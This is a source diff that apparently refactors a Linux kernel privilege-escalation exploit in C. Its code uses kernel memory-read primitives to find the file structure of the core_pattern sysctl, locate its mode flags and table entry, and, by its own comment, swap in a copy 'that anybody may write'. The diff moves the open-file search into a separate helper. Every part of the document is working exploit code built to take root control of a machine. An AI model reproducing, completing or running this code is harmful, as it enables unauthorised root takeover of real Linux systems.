@@ -19,6 +19,7 @@
 #include "files.h"
 #include "list.h"
 #include "objects.h"
+#include "open_files.h"
 #include "rooted.h"
 
 static enum outcome judge_proof(int err)
@@ -125,10 +126,7 @@ enum outcome core_pattern(void)
 #define TABLE_NR	1		/* core_pattern's */
 #define TABLE_DATA	8		/* in struct ctl_table */
 #define TABLE_MODE	20
-#define FIRST_FD	40
-#define NR_FDS		3
-#define FILES_WORDS	96		/* of files_struct, with fd_array */
-#define FILE_WORDS	16		/* of struct file, as far as f_inode */
+#define INODE_POINTERS	16		/* words of struct file, as far as f_inode */
 #define INODE_WORDS	16		/* of struct proc_inode, ahead of its inode */
 #define IS_READ		0xa0001		/* FMODE_OPENED, FMODE_CAN_READ, FMODE_READ */
 #define IS_WRITTEN	0x40002		/* FMODE_CAN_WRITE, FMODE_WRITE */
@@ -140,28 +138,13 @@ struct sysctl {
 	uint64_t table;
 };
 
-/* Consecutive descriptors of one file are as many equal pointers. */
-static uint64_t file_in(uint64_t files)
-{
-	uint64_t words[FILES_WORDS];
-	int i;
-
-	if (kread(files, words, sizeof(words)))
-		return 0;
-	for (i = FIRST_FD; i + NR_FDS <= FILES_WORDS; i++)
-		if (is_kernel_address(words[i]) && words[i] == words[i + 1] &&
-		    words[i] == words[i + 2])
-			return words[i];
-	return 0;
-}
-
 static uint64_t find_mode(uint64_t file)
 {
-	uint32_t words[2 * FILE_WORDS];
+	uint32_t words[2 * INODE_POINTERS];
 	int i;
 
 	kread(file, words, sizeof(words));
-	for (i = 0; i < 2 * FILE_WORDS; i++)
+	for (i = 0; i < 2 * INODE_POINTERS; i++)
 		if ((words[i] & (IS_READ | IS_WRITTEN)) == IS_READ && words[i] < 1U << 30)
 			return file + i * sizeof(words[0]);
 	return 0;
@@ -173,7 +156,7 @@ static uint64_t find_entry(uint64_t file, uint64_t table)
 	uint64_t inode, entry = 0;
 	int i;
 
-	for (i = 0; i < FILE_WORDS && !entry; i++) {
+	for (i = 0; i < INODE_POINTERS && !entry; i++) {
 		inode = kread64(file + i * 8);
 		if (is_kernel_address(inode))
 			entry = find_word(inode - INODE_WORDS * 8, INODE_WORDS * 8, table);
@@ -181,33 +164,20 @@ static uint64_t find_entry(uint64_t file, uint64_t table)
 	return entry;
 }
 
-static bool is_file(uint64_t file, struct sysctl *sysctl)
+static bool is_file(uint64_t file, void *arg)
 {
-	if (!file)
-		return false;
+	struct sysctl *sysctl = arg;
+
 	sysctl->mode = find_mode(file);
 	sysctl->entry = find_entry(file, sysctl->table);
 	return sysctl->mode && sysctl->entry;
 }
 
-/* Among all that the task points to. */
 static bool find_sysctl(struct sysctl *sysctl)
 {
-	static uint64_t words[TASK_WORDS];
-	struct task task;
-	int i;
-
 	sysctl->table = ksymbol(TABLES) + TABLE_NR * TABLE_SIZE;
 	sysctl->fd = open(SYSCTL_FILE, O_RDONLY);
-	for (i = 0; i < NR_FDS; i++)
-		dup2(sysctl->fd, FIRST_FD + i);
-	if (sysctl->fd < 0 || ktask(0, &task))
-		return false;
-	kread(task.task, words, sizeof(words));
-	for (i = 0; i < TASK_WORDS; i++)
-		if (is_kernel_address(words[i]) && is_file(file_in(words[i]), sysctl))
-			return true;
-	return false;
+	return find_open_file(sysctl->fd, is_file, sysctl);
 }
 
 /* As the genuine one, but that anybody may write. */
